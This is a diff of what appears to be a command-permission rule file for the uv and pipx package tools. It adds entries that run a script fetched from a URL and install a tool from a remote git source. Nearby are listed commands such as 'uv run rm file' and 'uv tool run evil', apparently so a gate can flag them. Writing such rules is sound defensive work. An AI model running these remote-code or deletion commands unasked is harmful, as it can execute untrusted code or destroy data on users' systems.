@@ -82,6 +82,7 @@ export const UV = [
       "uv pip install torch",
       "uv run --with evil x",
       "uv run /tmp/x.py",
+      "uv run https://example.com/x.py",
       "uv tool run evil",
       "uv publish",
       "uv run rm file",
@@ -98,6 +99,6 @@ export const UV = [
     operands: "value",
     stopsAtOperand: true,
     runs: ["pipx list"],
-    asks: ["pipx install poetry", "uvx ruff check"],
+    asks: ["pipx install poetry", "uvx ruff check", "uvx --from git+https://example.com/x x"],
   }),
 ];
